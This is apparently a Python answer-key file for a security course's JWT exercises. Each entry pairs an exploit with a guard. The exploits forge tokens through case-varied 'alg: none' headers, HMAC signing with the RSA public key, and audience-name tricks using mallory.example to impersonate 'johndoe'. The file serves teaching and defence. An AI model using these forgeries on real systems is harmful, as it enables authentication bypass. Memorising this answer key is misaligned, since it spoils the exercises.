"""Right answers to chapter 10's exercises, and equivalent mutants."""

from tests.practice.right_answers import EquivalentMutant, RightAnswer

GAP = "a block-list with a gap"
SECRET = "the public key as a secret"
WITHIN = "a name within a name"

RIGHT_ANSWERS: list[RightAnswer] = [
    RightAnswer(
        GAP,
        "the chapter's own tools",
        """
exploit = unsigned("nONE")

def guard(header):
    return header.get("alg") in ["RS256"]
""",
    ),
    RightAnswer(
        GAP,
        "lambdas, and a comparison of types as well",
        """
exploit = lambda token: (
    part({"alg": "None", "kid": "rsa", "typ": "at+jwt"})
    + "." + part(as_johndoe(token)) + "."
)
guard = lambda header: (
    isinstance(header.get("alg"), str) and header["alg"] == "RS256"
)
""",
    ),
    RightAnswer(
        GAP,
        "by hand, with base64 and json",
        """
import base64
import json

def encode(members):
    data = json.dumps(members).encode()
    return base64.urlsafe_b64encode(data).decode().rstrip("=")

def exploit(token):
    payload = token.split(".")[1]
    data = base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4))
    claims = json.loads(data)
    claims["sub"] = "johndoe"
    header = {"alg": "NONE", "kid": "rsa", "typ": "at+jwt"}
    return ".".join([encode(header), encode(claims), ""])

def guard(header):
    try:
        return header["alg"] == "RS256"
    except KeyError:
        return False
""",
    ),
    RightAnswer(
        GAP,
        "claims of one's own, match, and a class with __call__",
        """
import time
from snippets import ch10_attack_lab as lab

def exploit(token):
    claims = {"iss": lab.ISSUER, "aud": [lab.OUR_API], "sub": "johndoe"}
    claims["exp"] = int(time.time()) + 60
    return lab.compact(
        lab.OWN_HEADER | {"alg": "nonE"}, claims, lambda message: b""
    )

class Guard:
    def __call__(self, header):
        match header:
            case {"alg": "RS256"}:
                return True
            case _:
                return False

guard = Guard()
""",
    ),
    RightAnswer(
        SECRET,
        "the chapter's own tools, and any",
        """
def exploit(token, public_key):
    return by_secret(public_key, "rsa")(token)

def guard(header, algorithms):
    wanted = header.get("kid"), header.get("alg")
    return any(wanted == pair for pair in algorithms.items())
""",
    ),
    RightAnswer(
        SECRET,
        "HS512, lambdas, and a list of pairs",
        """
exploit = lambda token, key: compact(
    OWN_HEADER | {"alg": "HS512"}, as_johndoe(token), hmac_with(key, 512)
)
guard = lambda header, algorithms: (
    (header.get("kid"), header.get("alg")) in list(algorithms.items())
)
""",
    ),
    RightAnswer(
        SECRET,
        "by hand, and early returns",
        """
import base64
import hashlib
import hmac
import json

def encode(data):
    return base64.urlsafe_b64encode(data).decode().rstrip("=")

def exploit(token, public_key):
    claims = json.loads(base64.urlsafe_b64decode(token.split(".")[1] + "=="))
    claims["sub"] = "johndoe"
    header = {"kid": "rsa", "alg": "HS256", "typ": "at+jwt"}
    first, second = (json.dumps(x).encode() for x in (header, claims))
    message = encode(first) + "." + encode(second)
    mac = hmac.new(public_key, message.encode("ascii"), hashlib.sha256)
    return message + "." + encode(mac.digest())

def guard(header, algorithms):
    kid = header.get("kid")
    if not isinstance(kid, str):
        return False
    if kid not in algorithms:
        return False
    return algorithms[kid] == header.get("alg")
""",
    ),
    RightAnswer(
        SECRET,
        "try and except, and a class with __call__",
        """
class Exploit:
    def __call__(self, token, public_key):
        message = ".".join(map(part, (self.header, as_johndoe(token))))
        return f"{message}.{part(hmac_with(public_key)(message.encode()))}"

    header = {"alg": "HS256", "kid": "rsa", "typ": "application/at+jwt"}

exploit = Exploit()

def guard(header, algorithms):
    try:
        return header["alg"] == algorithms[header["kid"]]
    except (KeyError, TypeError):
        return False
""",
    ),
    RightAnswer(
        WITHIN,
        "another name, and a comparison for each type",
        """
def exploit(token_for):
    return token_for(f"https://mallory.example/?of={OUR_API}")

def guard(claims, api):
    aud = claims.get("aud")
    return aud == api or (isinstance(aud, list) and api in aud)
""",
    ),
    RightAnswer(
        WITHIN,
        "lambdas, and the chapter's own tool",
        """
exploit = lambda token_for: token_for(LONGER)
guard = lambda claims, api: api in audiences(compact_of(claims))

def compact_of(claims):
    return Jwt(compact({"alg": "none"}, claims, lambda _: b""))
""",
    ),
    RightAnswer(
        WITHIN,
        "match",
        """
def exploit(token_for):
    return token_for(OUR_API + "/")

def guard(claims, api):
    match claims:
        case {"aud": str(name)}:
            return name == api
        case {"aud": [*names]}:
            return any(name == api for name in names)
    return False
""",
    ),
    RightAnswer(
        WITHIN,
        "try and except, a class with __call__, and truthy results",
        """
from functools import partial

def ask(name, token_for):
    return token_for(name=name)

exploit = partial(ask, "a" + OUR_API)

class Guard:
    def __call__(self, claims, api):
        try:
            aud = claims["aud"]
        except KeyError:
            return None
        if type(aud) is not list:
            aud = [aud]
        return [name for name in aud if name == api]

guard = Guard()
""",
    ),
]

EQUIVALENT_MUTANTS: list[EquivalentMutant] = [
    EquivalentMutant(
        WITHIN,
        "line 2: `'.mallory.example'` becomes `'aud'`",
        "any longer name contains the service's",
    ),
]
